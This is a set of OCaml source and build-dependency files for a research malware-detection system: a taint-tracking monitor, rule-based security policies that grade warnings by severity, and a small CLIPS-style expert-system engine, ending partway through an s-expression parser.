let reg s r = s.regs.(Isa.Reg.index r)

let set_reg s r tag = s.regs.(Isa.Reg.index r) <- tag

let byte s addr =
  match Hashtbl.find_opt s.mem addr with
  | Some tag -> tag
  | None -> Taint.Tagset.empty

let set_byte s addr tag =
  if Taint.Tagset.is_empty tag then Hashtbl.remove s.mem addr
  else Hashtbl.replace s.mem addr tag

let range s addr len =
  let rec go i acc =
    if i >= len then acc
    else go (i + 1) (Taint.Tagset.union acc (byte s (addr + i)))
  in
  go 0 Taint.Tagset.empty

let set_range s addr len tag =
  for i = 0 to len - 1 do
    set_byte s (addr + i) tag
  done

let tagged_bytes s = Hashtbl.length s.mem
