(** Monitor-side resource table: what each (pid, fd) refers to, and where
    its {e name} came from.

    The kernel knows what an fd points at; only the monitor knows the
    taint of the string that named it when it was opened.  Entries are
    created on open/connect/accept, duplicated on dup and fork, and
    dropped on close. *)

type entry = {
  e_kind : Events.resource_kind;
  e_name : string;
  e_origin : Taint.Tagset.t;  (** taint of the name/address bytes *)
  e_server_side : bool;  (** accepted connection *)
  e_server : Events.resource option;
      (** for accepted connections, the listening socket resource *)
}

type t

val create : unit -> t

val set : t -> pid:int -> fd:int -> entry -> unit

val get : t -> pid:int -> fd:int -> entry option

val remove : t -> pid:int -> fd:int -> unit

(** [bind_origin t ~pid ~fd tag local] remembers the taint and name of an
    address being bound on a listening socket. *)
val bind_origin : t -> pid:int -> fd:int -> Taint.Tagset.t -> string -> unit

val bound : t -> pid:int -> fd:int -> (Taint.Tagset.t * string) option

(** [inherit_from t ~parent ~child] duplicates all entries for fork. *)
val inherit_from : t -> parent:int -> child:int -> unit

(** [resource_of t ~pid ~fd ~fallback] renders the fd as an event
    resource, falling back to the kernel's view when the monitor has no
    entry (e.g. stdin/stdout). *)
val resource_of :
  t -> pid:int -> fd:int -> fallback:Osim.Syscall.resource -> Events.resource

(** [server_of t ~pid ~fd] is the listening-socket resource behind an
    accepted connection, if any. *)
val server_of : t -> pid:int -> fd:int -> Events.resource option
