type entry = {
  e_kind : Events.resource_kind;
  e_name : string;
  e_origin : Taint.Tagset.t;
  e_server_side : bool;
  e_server : Events.resource option;
}

type t = {
  table : (int * int, entry) Hashtbl.t;
  binds : (int * int, Taint.Tagset.t * string) Hashtbl.t;
}

let create () = { table = Hashtbl.create 32; binds = Hashtbl.create 8 }

let set t ~pid ~fd entry = Hashtbl.replace t.table (pid, fd) entry

let get t ~pid ~fd = Hashtbl.find_opt t.table (pid, fd)

let remove t ~pid ~fd =
  Hashtbl.remove t.table (pid, fd);
  Hashtbl.remove t.binds (pid, fd)

let bind_origin t ~pid ~fd tag local =
  Hashtbl.replace t.binds (pid, fd) (tag, local)

let bound t ~pid ~fd = Hashtbl.find_opt t.binds (pid, fd)

let inherit_from t ~parent ~child =
  let copy tbl =
    Hashtbl.iter
      (fun (pid, fd) v -> if pid = parent then Hashtbl.replace tbl (child, fd) v)
      (Hashtbl.copy tbl)
  in
  copy t.table;
  copy t.binds

let resource_of t ~pid ~fd ~fallback : Events.resource =
  match get t ~pid ~fd with
  | Some e -> { r_kind = e.e_kind; r_name = e.e_name; r_origin = e.e_origin }
  | None ->
    (match (fallback : Osim.Syscall.resource) with
     | R_stdin ->
       { r_kind = Events.R_stdio; r_name = "STDIN";
         r_origin = Taint.Tagset.empty }
     | R_stdout ->
       { r_kind = Events.R_stdio; r_name = "STDOUT";
         r_origin = Taint.Tagset.empty }
     | R_stderr ->
       { r_kind = Events.R_stdio; r_name = "STDERR";
         r_origin = Taint.Tagset.empty }
     | R_file path ->
       { r_kind = Events.R_file; r_name = path;
         r_origin = Taint.Tagset.empty }
     | R_sock { sr_peer; sr_local; _ } ->
       let name =
         match sr_peer, sr_local with
         | Some p, _ -> p
         | None, Some l -> l
         | None, None -> "socket"
       in
       { r_kind = Events.R_socket; r_name = name;
         r_origin = Taint.Tagset.empty }
     | R_unknown ->
       { r_kind = Events.R_stdio; r_name = "unknown";
         r_origin = Taint.Tagset.empty })

let server_of t ~pid ~fd =
  match get t ~pid ~fd with
  | Some { e_server; _ } -> e_server
  | None -> None
