lib/harrier/shadow.ml: Array Hashtbl Isa Taint
