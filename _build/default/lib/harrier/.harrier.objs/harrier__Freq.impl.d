lib/harrier/freq.ml: Hashtbl
