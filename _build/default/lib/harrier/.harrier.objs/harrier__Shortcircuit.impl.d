lib/harrier/shortcircuit.ml: List Shadow String Taint Vm
