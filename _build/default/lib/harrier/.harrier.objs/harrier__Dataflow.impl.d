lib/harrier/dataflow.ml: Isa List Shadow Taint Vm
