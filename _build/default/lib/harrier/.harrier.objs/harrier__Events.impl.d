lib/harrier/events.ml: Fmt Taint
