lib/harrier/resources.mli: Events Osim Taint
