lib/harrier/resources.ml: Events Hashtbl Osim Taint
