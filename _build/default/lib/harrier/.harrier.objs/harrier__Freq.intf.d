lib/harrier/freq.mli:
