lib/harrier/events.mli: Format Taint
