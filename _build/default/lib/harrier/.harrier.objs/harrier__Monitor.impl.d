lib/harrier/monitor.ml: Binary Dataflow Events Fmt Freq Hashtbl Isa List Logs Option Osim Resources Shadow Shortcircuit String Taint Vm
