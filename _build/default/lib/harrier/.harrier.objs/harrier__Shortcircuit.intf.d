lib/harrier/shortcircuit.mli: Shadow Taint Vm
