lib/harrier/monitor.mli: Events Osim Shadow Shortcircuit
