lib/harrier/dataflow.mli: Isa Shadow Taint Vm
