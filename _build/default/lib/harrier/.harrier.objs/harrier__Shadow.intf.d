lib/harrier/shadow.mli: Isa Taint
