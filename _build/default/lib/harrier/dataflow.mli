(** Per-instruction taint propagation (Section 7.3.1).

    Called from the [pre_insn] hook, {e before} the CPU mutates state, so
    effective addresses are computed against the same register values the
    CPU will use.  Propagation rules follow the paper:
    - [mov] copies the source tag to the destination;
    - ALU instructions assign the destination the {e union} of both
      operand tags;
    - immediates carry the BINARY tag of the image the executing code
      belongs to;
    - [cpuid] writes the HARDWARE tag into eax..edx;
    - comparisons and control transfers propagate nothing (implicit flows
      are out of scope, as in the prototype). *)

(** [step shadow machine ~imm_tag insn] updates [shadow] for the effects
    of [insn].  [imm_tag] is the BINARY tag of the executing image. *)
val step :
  Shadow.t -> Vm.Machine.t -> imm_tag:Taint.Tagset.t -> Isa.Insn.t -> unit
