type t = {
  trusted_binaries : string list;
  trusted_sockets : string list;
}

let default =
  { trusted_binaries = [ "/lib/libc.so"; "/lib/ld-linux.so" ];
    trusted_sockets = [] }

let nothing = { trusted_binaries = []; trusted_sockets = [] }

let is_trusted t = function
  | Taint.Source.Binary b -> List.mem b t.trusted_binaries
  | Taint.Source.Socket s -> List.mem s t.trusted_sockets
  | Taint.Source.User_input | Taint.Source.File _ | Taint.Source.Hardware ->
    false

let untrusted_binaries t tag =
  List.filter
    (fun b -> not (List.mem b t.trusted_binaries))
    (Taint.Tagset.binaries tag)

let untrusted_sockets t tag =
  List.filter
    (fun s -> not (List.mem s t.trusted_sockets))
    (Taint.Tagset.sockets tag)

let classify t tag = Taint.Origin.classify ~trusted:(is_trusted t) tag
