(** Warning severity (Section 4): Low, Medium or High, graded by the
    policy's confidence that the observed behaviour is malicious. *)

type t = Low | Medium | High

(** Total order: [Low < Medium < High]. *)
val compare : t -> t -> int

val equal : t -> t -> bool

val ( >= ) : t -> t -> bool

(** [label s] is the paper's bracket text: ["LOW"], ["MEDIUM"],
    ["HIGH"]. *)
val label : t -> string

val of_label : string -> t option

val pp : Format.formatter -> t -> unit
