(** Shared policy context: thresholds, trust and the warning sink. *)

(** Policy constants (the CLIPS globals [?*RARE_FREQUENCY*] etc.). *)
type thresholds = {
  rare_frequency : int;  (** a BB count below this is "rare" *)
  long_time : int;  (** events after this many ticks are "late" *)
  clone_count_low : int;  (** more clones than this warns Low *)
  clone_rate_medium : int;
      (** more clones than this inside the monitor's window warns Medium *)
  alloc_low : int;  (** heap bytes held beyond this warn Low *)
  alloc_medium : int;  (** ... and beyond this warn Medium *)
}

val default_thresholds : thresholds

type t = {
  trust : Trust.t;
  thresholds : thresholds;
  warn : Warning.t -> unit;
}

(** [rarely_executed ctx ~freq ~time] is the paper's reinforcement test:
    low frequency and the program has been running a while.  A frequency
    of 0 means "no frequency data" (tracking disabled) and never counts
    as rare. *)
val rarely_executed : t -> freq:int -> time:int -> bool
