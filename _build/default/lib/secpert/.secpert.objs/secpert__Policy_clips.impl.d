lib/secpert/policy_clips.ml: Clips Context Engine Expert List Option Policy_flow Severity String Taint Trust Value Warning
