lib/secpert/severity.ml: Fmt Int
