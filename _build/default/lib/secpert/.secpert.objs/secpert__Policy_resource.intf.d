lib/secpert/policy_resource.mli: Context Expert
