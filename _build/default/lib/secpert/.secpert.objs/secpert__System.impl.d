lib/secpert/system.ml: Context Expert Facts Harrier List Osim Policy_clips Policy_exec Policy_flow Policy_resource Severity Trust Warning
