lib/secpert/trust.mli: Taint
