lib/secpert/trust.ml: List Taint
