lib/secpert/policy_flow.mli: Context Expert
