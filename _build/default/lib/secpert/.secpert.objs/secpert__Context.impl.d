lib/secpert/context.ml: Trust Warning
