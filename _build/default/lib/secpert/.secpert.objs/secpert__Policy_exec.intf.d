lib/secpert/policy_exec.mli: Context Expert
