lib/secpert/system.mli: Context Expert Harrier Osim Severity Trust Warning
