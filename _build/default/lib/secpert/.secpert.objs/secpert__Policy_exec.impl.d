lib/secpert/policy_exec.ml: Context Engine Expert Facts Fmt Pattern Severity Value Warning
