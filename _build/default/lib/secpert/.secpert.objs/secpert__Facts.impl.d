lib/secpert/facts.ml: Engine Expert Fact Fmt Harrier List Option Pattern Taint Template Trust Value
