lib/secpert/policy_clips.mli: Context Expert
