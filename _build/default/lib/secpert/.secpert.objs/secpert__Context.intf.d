lib/secpert/context.mli: Trust Warning
