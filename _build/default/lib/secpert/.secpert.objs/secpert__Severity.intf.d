lib/secpert/severity.mli: Format
