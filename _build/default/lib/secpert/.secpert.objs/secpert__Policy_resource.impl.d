lib/secpert/policy_resource.ml: Context Engine Expert Facts Fmt Pattern Severity Warning
