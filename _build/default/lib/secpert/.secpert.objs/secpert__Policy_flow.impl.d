lib/secpert/policy_flow.ml: Buffer Context Engine Expert Facts Fmt List Pattern Severity String Taint Trust Warning
