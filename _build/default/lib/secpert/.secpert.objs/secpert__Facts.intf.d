lib/secpert/facts.mli: Expert Harrier Taint Trust
