lib/secpert/warning.mli: Format Severity
