lib/secpert/warning.ml: Fmt Hashtbl List Severity
