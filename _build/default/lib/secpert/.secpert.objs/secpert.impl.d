lib/secpert/secpert.ml: Context Facts Policy_clips Policy_exec Policy_flow Policy_resource Severity System Trust Warning
