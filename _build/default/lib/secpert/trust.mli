(** The trust database.

    The paper's prototype trusts the libc and ld-linux shared objects:
    origins rooted in trusted binaries are filtered out before rules
    evaluate ([filter_binary] / [filter_socket] in Appendix A.2).  This
    is also what makes HTH miss the ElmExploit's [system("... sendmail")]
    — the "/bin/sh" string lives in libc — which we reproduce. *)

type t = {
  trusted_binaries : string list;
  trusted_sockets : string list;  (** none by default, as in the paper *)
}

(** Trusts ["/lib/libc.so"] and ["/lib/ld-linux.so"]. *)
val default : t

(** Trusts nothing — the ablation configuration. *)
val nothing : t

val is_trusted : t -> Taint.Source.t -> bool

(** [untrusted_binaries t tag] is the paper's [filter_binary]: the BINARY
    origins of [tag] that are not trusted. *)
val untrusted_binaries : t -> Taint.Tagset.t -> string list

(** [untrusted_sockets t tag] is the paper's [filter_socket]. *)
val untrusted_sockets : t -> Taint.Tagset.t -> string list

(** [classify t tag] is the dominant resource-ID origin with trusted
    sources filtered (see {!Taint.Origin.classify}). *)
val classify : t -> Taint.Tagset.t -> Taint.Origin.kind
