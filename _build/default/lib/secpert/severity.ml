type t = Low | Medium | High

let rank = function Low -> 0 | Medium -> 1 | High -> 2

let compare a b = Int.compare (rank a) (rank b)

let equal a b = rank a = rank b

let ( >= ) a b = rank a >= rank b

let label = function Low -> "LOW" | Medium -> "MEDIUM" | High -> "HIGH"

let of_label = function
  | "LOW" -> Some Low
  | "MEDIUM" -> Some Medium
  | "HIGH" -> Some High
  | _ -> None

let pp ppf t = Fmt.string ppf (label t)
