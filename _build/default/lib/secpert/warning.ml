type t = {
  severity : Severity.t;
  rule : string;
  message : string;
  pid : int;
  time : int;
  rare : bool;
}

let make ~severity ~rule ~pid ~time ?(rare = false) message =
  { severity; rule; message; pid; time; rare }

let pp ppf w =
  Fmt.pf ppf "Warning [%a] %s%s" Severity.pp w.severity w.message
    (if w.rare then "\n\tThis code is rarely executed..." else "")

let to_string = Fmt.to_to_string pp

let max_severity ws =
  List.fold_left
    (fun acc w ->
      match acc with
      | None -> Some w.severity
      | Some s -> if Severity.(w.severity >= s) then Some w.severity else acc)
    None ws

let dedup ws =
  let seen = Hashtbl.create 16 in
  List.filter
    (fun w ->
      let key = w.rule, Severity.label w.severity, w.message in
      if Hashtbl.mem seen key then false
      else begin
        Hashtbl.replace seen key ();
        true
      end)
    ws
