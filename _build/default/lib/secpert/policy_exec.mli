(** Execution-flow rules (Section 4.1).

    - an [execve] whose program name is hard-coded warns Low;
    - hard-coded {e and} rarely-executed code warns Medium;
    - a program name that originated from a socket warns High;
    - names given by the user warn nothing. *)

(** [register engine ctx] installs the rules. *)
val register : Expert.Engine.t -> Context.t -> unit
