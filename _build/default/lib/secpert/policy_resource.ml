open Expert

let check_clone ctx =
  let patterns =
    [ Pattern.make Facts.t_clone_event
        [ "total", Pattern.Var "total"; "recent", Pattern.Var "recent";
          "time", Pattern.Var "time"; "pid", Pattern.Var "pid" ] ]
  in
  let action _engine bindings _facts =
    let total = Facts.get_int bindings "total" in
    let recent = Facts.get_int bindings "recent" in
    let time = Facts.get_int bindings "time" in
    let pid = Facts.get_int bindings "pid" in
    let th = ctx.Context.thresholds in
    if recent > th.clone_rate_medium then
      ctx.Context.warn
        (Warning.make ~severity:Severity.Medium ~rule:"check_clone_rate"
           ~pid ~time
           "Found several SYS_clone calls\n\
            \tThis call was very frequent in a short period of time")
    else if total > th.clone_count_low then
      ctx.Context.warn
        (Warning.make ~severity:Severity.Low ~rule:"check_clone_count" ~pid
           ~time "Found several SYS_clone calls\n\tThis call was frequent")
  in
  Engine.rule ~name:"check_clone" patterns action

(* Section 10 future work #4: "new rules to support different types of
   resource abuse such as memory".  A process holding an outsized heap
   (Trojan.Vundo degrades the machine by consuming virtual memory) warns
   Low, and Medium beyond a higher bound. *)
let check_alloc ctx =
  let patterns =
    [ Pattern.make Facts.t_alloc_event
        [ "total", Pattern.Var "total"; "time", Pattern.Var "time";
          "pid", Pattern.Var "pid" ] ]
  in
  let action _engine bindings _facts =
    let total = Facts.get_int bindings "total" in
    let time = Facts.get_int bindings "time" in
    let pid = Facts.get_int bindings "pid" in
    let th = ctx.Context.thresholds in
    if total > th.alloc_medium then
      ctx.Context.warn
        (Warning.make ~severity:Severity.Medium ~rule:"check_alloc" ~pid
           ~time
           (Fmt.str
              "Found large memory allocation (%d bytes held)\n\
               \tThis process is consuming an unusual amount of memory"
              total))
    else if total > th.alloc_low then
      ctx.Context.warn
        (Warning.make ~severity:Severity.Low ~rule:"check_alloc" ~pid ~time
           (Fmt.str "Found growing memory allocation (%d bytes held)"
              total))
  in
  Engine.rule ~name:"check_alloc" patterns action

let register engine ctx =
  Engine.defrule engine (check_clone ctx);
  Engine.defrule engine (check_alloc ctx)
