(** Warnings issued to the user. *)

type t = {
  severity : Severity.t;
  rule : string;  (** the policy rule that fired *)
  message : string;  (** paper-style body, possibly multi-line *)
  pid : int;
  time : int;
  rare : bool;  (** "This code is rarely executed..." reinforcement *)
}

val make :
  severity:Severity.t -> rule:string -> pid:int -> time:int -> ?rare:bool ->
  string -> t

(** [pp] renders the paper's format:
    {v Warning [HIGH] Found Write call to ... v} *)
val pp : Format.formatter -> t -> unit

val to_string : t -> string

(** [max_severity ws] is the highest severity present, if any. *)
val max_severity : t list -> Severity.t option

(** [dedup ws] drops warnings identical in (rule, severity, message),
    keeping first occurrences in order. *)
val dedup : t list -> t list
