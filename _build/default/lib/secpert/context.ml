type thresholds = {
  rare_frequency : int;
  long_time : int;
  clone_count_low : int;
  clone_rate_medium : int;
  alloc_low : int;
  alloc_medium : int;
}

let default_thresholds =
  { rare_frequency = 2; long_time = 2000; clone_count_low = 8;
    clone_rate_medium = 6; alloc_low = 0x4000; alloc_medium = 0x10000 }

type t = {
  trust : Trust.t;
  thresholds : thresholds;
  warn : Warning.t -> unit;
}

let rarely_executed ctx ~freq ~time =
  freq > 0
  && freq < ctx.thresholds.rare_frequency
  && time > ctx.thresholds.long_time
