(** Resource-abuse rules (Section 4.2).

    - many processes created over the run warns Low;
    - a high {e rate} of process creation (many clones inside the
      monitor's window) warns Medium;
    - a process holding a large heap (memory abuse, the paper's future
      work item 4) warns Low, then Medium. *)

val register : Expert.Engine.t -> Context.t -> unit
