lib/vm/machine.ml: Array Binary Bytes Char Fmt Int32 Isa List String
