lib/vm/machine.mli: Binary Format Isa
