lib/expert/template.ml: Fmt List Option String Value
