lib/expert/sexp.mli: Format
