lib/expert/pattern.ml: Fact Fmt List String Value
