lib/expert/sexp.ml: Buffer Char Fmt List String
