lib/expert/engine.ml: Fact Fmt Hashtbl List Pattern String Template Value
