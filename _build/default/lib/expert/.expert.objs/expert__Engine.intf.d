lib/expert/engine.mli: Fact Pattern Template Value
