lib/expert/clips.ml: Buffer Engine Fmt List Pattern Sexp String Template Value
