lib/expert/value.ml: Fmt Int List String
