lib/expert/fact.mli: Format Value
