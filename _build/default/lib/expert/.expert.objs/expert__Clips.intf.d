lib/expert/clips.mli: Engine Value
