lib/expert/fact.ml: Fmt List Value
