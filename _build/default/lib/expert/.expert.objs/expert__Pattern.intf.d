lib/expert/pattern.mli: Fact Format Value
