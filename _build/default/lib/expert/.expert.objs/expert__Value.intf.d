lib/expert/value.mli: Format
