lib/expert/template.mli: Value
