(** Values manipulated by the expert system (CLIPS-style). *)

type t =
  | Sym of string  (** a symbol, e.g. [SYS_execve], [BINARY] *)
  | Str of string  (** a quoted string, e.g. ["/bin/ls"] *)
  | Int of int
  | Lst of t list  (** a multifield value *)

val equal : t -> t -> bool

val compare : t -> t -> int

(** [truthy v] follows CLIPS: everything except the symbol [FALSE], the
    integer [0] and the empty multifield is true. *)
val truthy : t -> bool

val sym_false : t

val sym_true : t

val of_bool : bool -> t

(** [text v] is the printable contents: strings without quotes, symbols
    verbatim, integers in decimal. *)
val text : t -> string

val pp : Format.formatter -> t -> unit

val to_string : t -> string
