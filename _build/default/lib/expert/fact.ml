type t = {
  id : int;
  template : string;
  slots : (string * Value.t) list;
}

let make ~id ~template ~slots = { id; template; slots }

let slot f name = List.assoc_opt name f.slots

let slot_exn f name = List.assoc name f.slots

let equal a b = a.id = b.id

let pp ppf f =
  let pp_slot ppf (name, v) = Fmt.pf ppf "(%s %a)" name Value.pp v in
  Fmt.pf ppf "f-%d (%s %a)" f.id f.template
    Fmt.(list ~sep:sp pp_slot) f.slots
