(** Facts: the data asserted into working memory (Appendix A.1).

    A fact is an instance of a template with named slots, identified by a
    unique index (CLIPS prints them as [f-43]). *)

type t = {
  id : int;
  template : string;
  slots : (string * Value.t) list;
}

val make : id:int -> template:string -> slots:(string * Value.t) list -> t

(** [slot f name] is the value of slot [name], if present. *)
val slot : t -> string -> Value.t option

(** [slot_exn f name] raises [Not_found] when the slot is absent. *)
val slot_exn : t -> string -> Value.t

val equal : t -> t -> bool

val pp : Format.formatter -> t -> unit
