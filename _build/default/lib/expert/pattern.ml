type test =
  | Anything
  | Lit of Value.t
  | Var of string
  | Pred of string * (Value.t -> bool)

type t = {
  p_template : string;
  p_binding : string option;
  p_slots : (string * test) list;
}

type bindings = (string * Value.t) list

let make ?binding p_template p_slots =
  { p_template; p_binding = binding; p_slots }

let lookup b var = List.assoc_opt var b

let bind b var v =
  match lookup b var with
  | None -> Some ((var, v) :: b)
  | Some existing -> if Value.equal existing v then Some b else None

let match_slot b fact (name, test) =
  match Fact.slot fact name with
  | None -> None
  | Some v ->
    (match test with
     | Anything -> Some b
     | Lit lit -> if Value.equal lit v then Some b else None
     | Var var -> bind b var v
     | Pred (_, p) -> if p v then Some b else None)

let match_fact p b (fact : Fact.t) =
  if not (String.equal p.p_template fact.template) then None
  else
    let b =
      match p.p_binding with
      | None -> Some b
      | Some var -> bind b var (Value.Int fact.id)
    in
    List.fold_left
      (fun acc slot ->
        match acc with
        | None -> None
        | Some b -> match_slot b fact slot)
      b p.p_slots

let pp_test ppf = function
  | Anything -> Fmt.string ppf "?"
  | Lit v -> Value.pp ppf v
  | Var v -> Fmt.pf ppf "?%s" v
  | Pred (name, _) -> Fmt.pf ppf "<%s>" name

let pp ppf p =
  let pp_slot ppf (name, t) = Fmt.pf ppf "(%s %a)" name pp_test t in
  let pp_bind ppf = function
    | None -> ()
    | Some v -> Fmt.pf ppf "?%s <- " v
  in
  Fmt.pf ppf "%a(%s %a)" pp_bind p.p_binding p.p_template
    Fmt.(list ~sep:sp pp_slot) p.p_slots
