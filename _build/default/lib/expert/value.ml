type t =
  | Sym of string
  | Str of string
  | Int of int
  | Lst of t list

let rec equal a b =
  match a, b with
  | Sym x, Sym y | Str x, Str y -> String.equal x y
  | Int x, Int y -> x = y
  | Lst x, Lst y ->
    List.length x = List.length y && List.for_all2 equal x y
  | (Sym _ | Str _ | Int _ | Lst _), _ -> false

let rec compare a b =
  let rank = function Sym _ -> 0 | Str _ -> 1 | Int _ -> 2 | Lst _ -> 3 in
  match a, b with
  | Sym x, Sym y | Str x, Str y -> String.compare x y
  | Int x, Int y -> Int.compare x y
  | Lst x, Lst y -> List.compare compare x y
  | _ -> Int.compare (rank a) (rank b)

let sym_false = Sym "FALSE"
let sym_true = Sym "TRUE"
let of_bool b = if b then sym_true else sym_false

let truthy = function
  | Sym "FALSE" -> false
  | Int 0 -> false
  | Lst [] -> false
  | Sym _ | Str _ | Int _ | Lst _ -> true

let rec pp ppf = function
  | Sym s -> Fmt.string ppf s
  | Str s -> Fmt.pf ppf "%S" s
  | Int n -> Fmt.int ppf n
  | Lst vs -> Fmt.pf ppf "(%a)" Fmt.(list ~sep:sp pp) vs

let rec text = function
  | Sym s -> s
  | Str s -> s
  | Int n -> string_of_int n
  | Lst vs -> String.concat " " (List.map text vs)

let to_string = Fmt.to_to_string pp
