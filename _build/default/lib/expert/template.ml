type slot_def = {
  slot_name : string;
  default : Value.t option;
}

type t = {
  tpl_name : string;
  tpl_slots : slot_def list;
}

let make tpl_name tpl_slots = { tpl_name; tpl_slots }

let slot ?default slot_name = { slot_name; default }

let normalize t given =
  let unknown =
    List.filter
      (fun (name, _) ->
        not (List.exists (fun s -> String.equal s.slot_name name) t.tpl_slots))
      given
  in
  match unknown with
  | (name, _) :: _ ->
    Error (Fmt.str "template %s has no slot %S" t.tpl_name name)
  | [] ->
    Ok
      (List.map
         (fun s ->
           match List.assoc_opt s.slot_name given with
           | Some v -> s.slot_name, v
           | None ->
             ( s.slot_name,
               Option.value s.default ~default:(Value.Sym "nil") ))
         t.tpl_slots)
