type t = {
  templates : (string, Template.t) Hashtbl.t;
  mutable rules : rule list;  (* in definition order *)
  mutable wm : Fact.t list;  (* newest first *)
  mutable next_id : int;
  fired : (string, unit) Hashtbl.t;  (* refraction keys *)
  fns : (string, Value.t list -> Value.t) Hashtbl.t;
  globals : (string, Value.t) Hashtbl.t;
  mutable out : string -> unit;
  mutable buffered : string list;  (* reversed *)
}

and rule = {
  rule_name : string;
  salience : int;
  patterns : Pattern.t list;
  negated : Pattern.t list;
      (* CLIPS [not] conditional elements: the rule activates only when
         no fact matches them under the accumulated bindings *)
  guard : t -> Pattern.bindings -> bool;
  action : t -> Pattern.bindings -> Fact.t list -> unit;
}

let rule ~name ?(salience = 0) ?(negated = []) ?(guard = fun _ _ -> true)
    patterns action =
  { rule_name = name; salience; negated; patterns; guard; action }

let create () =
  let e =
    { templates = Hashtbl.create 16; rules = []; wm = []; next_id = 1;
      fired = Hashtbl.create 64; fns = Hashtbl.create 16;
      globals = Hashtbl.create 16; out = ignore; buffered = [] }
  in
  e.out <- (fun line -> e.buffered <- line :: e.buffered);
  e

let deftemplate e tpl = Hashtbl.replace e.templates tpl.Template.tpl_name tpl

let template e name = Hashtbl.find_opt e.templates name

let defrule e r = e.rules <- e.rules @ [ r ]

let defun e name f = Hashtbl.replace e.fns name f

let call_fn e name args =
  match Hashtbl.find_opt e.fns name with
  | Some f -> f args
  | None -> failwith (Fmt.str "Engine: unknown function %S" name)

let set_global e name v = Hashtbl.replace e.globals name v

let global e name = Hashtbl.find_opt e.globals name

let assert_fact e tpl_name slots =
  let tpl =
    match template e tpl_name with
    | Some t -> t
    | None -> failwith (Fmt.str "Engine: unknown template %S" tpl_name)
  in
  match Template.normalize tpl slots with
  | Error msg -> failwith ("Engine: " ^ msg)
  | Ok slots ->
    let fact = Fact.make ~id:e.next_id ~template:tpl_name ~slots in
    e.next_id <- e.next_id + 1;
    e.wm <- fact :: e.wm;
    fact

let retract_id e id = e.wm <- List.filter (fun f -> f.Fact.id <> id) e.wm

let retract e (f : Fact.t) = retract_id e f.id

let facts e = e.wm

let fact_by_id e id = List.find_opt (fun f -> f.Fact.id = id) e.wm

let printout e line = e.out line

let set_out e f = e.out <- f

let drain_output e =
  let lines = List.rev e.buffered in
  e.buffered <- [];
  lines

(* An activation key encodes rule name + matched fact ids for refraction. *)
let activation_key rule facts =
  String.concat ","
    (rule.rule_name :: List.map (fun f -> string_of_int f.Fact.id) facts)

(* Enumerate activations by depth-first join over the rule's patterns;
   negated conditional elements must match no fact under the final
   bindings. *)
let activations e rule =
  let wm = e.wm in
  let negation_clear bindings =
    not
      (List.exists
         (fun p ->
           List.exists (fun f -> Pattern.match_fact p bindings f <> None) wm)
         rule.negated)
  in
  let rec go patterns bindings matched acc =
    match patterns with
    | [] ->
      let matched = List.rev matched in
      if rule.guard e bindings && negation_clear bindings then
        (bindings, matched) :: acc
      else acc
    | p :: rest ->
      List.fold_left
        (fun acc fact ->
          match Pattern.match_fact p bindings fact with
          | Some bindings' -> go rest bindings' (fact :: matched) acc
          | None -> acc)
        acc wm
  in
  go rule.patterns [] [] []

let next_activation e =
  let candidates =
    List.concat_map
      (fun rule ->
        List.filter_map
          (fun (bindings, matched) ->
            let key = activation_key rule matched in
            if Hashtbl.mem e.fired key then None
            else Some (rule, bindings, matched, key))
          (activations e rule))
      e.rules
  in
  match candidates with
  | [] -> None
  | first :: rest ->
    let best =
      List.fold_left
        (fun ((r, _, _, _) as best) ((r', _, _, _) as cand) ->
          if r'.salience > r.salience then cand else best)
        first rest
    in
    Some best

let run ?(limit = 10_000) e =
  let rec loop fired =
    if fired >= limit then fired
    else
      match next_activation e with
      | None -> fired
      | Some (rule, bindings, matched, key) ->
        Hashtbl.replace e.fired key ();
        rule.action e bindings matched;
        loop (fired + 1)
  in
  loop 0
