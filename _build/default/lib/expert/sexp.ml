type t =
  | Atom of string
  | Quoted of string
  | List of t list

exception Parse_error of string

let fail fmt = Fmt.kstr (fun s -> raise (Parse_error s)) fmt

type lexer = { src : string; mutable pos : int }

let peek lx = if lx.pos < String.length lx.src then Some lx.src.[lx.pos] else None

let advance lx = lx.pos <- lx.pos + 1

let rec skip_ws lx =
  match peek lx with
  | Some (' ' | '\t' | '\n' | '\r') ->
    advance lx;
    skip_ws lx
  | Some ';' ->
    let rec to_eol () =
      match peek lx with
      | Some '\n' | None -> ()
      | Some _ ->
        advance lx;
        to_eol ()
    in
    to_eol ();
    skip_ws lx
  | Some _ | None -> ()

let read_quoted lx =
  advance lx;
  let b = Buffer.create 16 in
  let rec go () =
    match peek lx with
    | None -> fail "unterminated string at %d" lx.pos
    | Some '"' ->
      advance lx;
      Buffer.contents b
    | Some '\\' ->
      advance lx;
      (match peek lx with
       | Some 'n' -> Buffer.add_char b '\n'; advance lx
       | Some 't' -> Buffer.add_char b '\t'; advance lx
       | Some 'r' -> Buffer.add_char b '\r'; advance lx
       | Some 'b' -> Buffer.add_char b '\b'; advance lx
       | Some ('0' .. '9') ->
         (* OCaml-style decimal escape \DDD, as %S produces *)
         let digit () =
           match peek lx with
           | Some ('0' .. '9' as c) ->
             advance lx;
             Char.code c - Char.code '0'
           | _ -> fail "bad decimal escape at %d" lx.pos
         in
         let d1 = digit () in
         let d2 = digit () in
         let d3 = digit () in
         Buffer.add_char b (Char.chr ((d1 * 100) + (d2 * 10) + d3))
       | Some c -> Buffer.add_char b c; advance lx
       | None -> fail "dangling escape at %d" lx.pos);
      go ()
    | Some c ->
      Buffer.add_char b c;
      advance lx;
      go ()
  in
  go ()

let is_atom_char = function
  | ' ' | '\t' | '\n' | '\r' | '(' | ')' | '"' | ';' -> false
  | _ -> true

let read_atom lx =
  let start = lx.pos in
  let rec go () =
    match peek lx with
    | Some c when is_atom_char c ->
      advance lx;
      go ()
    | Some _ | None -> ()
  in
  go ();
  String.sub lx.src start (lx.pos - start)

let rec read_form lx =
  skip_ws lx;
  match peek lx with
  | None -> fail "unexpected end of input"
  | Some '(' ->
    advance lx;
    let rec items acc =
      skip_ws lx;
      match peek lx with
      | Some ')' ->
        advance lx;
        List (List.rev acc)
      | None -> fail "unterminated list"
      | Some _ -> items (read_form lx :: acc)
    in
    items []
  | Some ')' -> fail "unexpected ')' at %d" lx.pos
  | Some '"' -> Quoted (read_quoted lx)
  | Some _ -> Atom (read_atom lx)

let parse_all src =
  let lx = { src; pos = 0 } in
  let rec go acc =
    skip_ws lx;
    if lx.pos >= String.length src then List.rev acc
    else go (read_form lx :: acc)
  in
  go []

let parse src =
  match parse_all src with
  | [ form ] -> form
  | forms -> fail "expected one form, got %d" (List.length forms)

let rec pp ppf = function
  | Atom a -> Fmt.string ppf a
  | Quoted s -> Fmt.pf ppf "%S" s
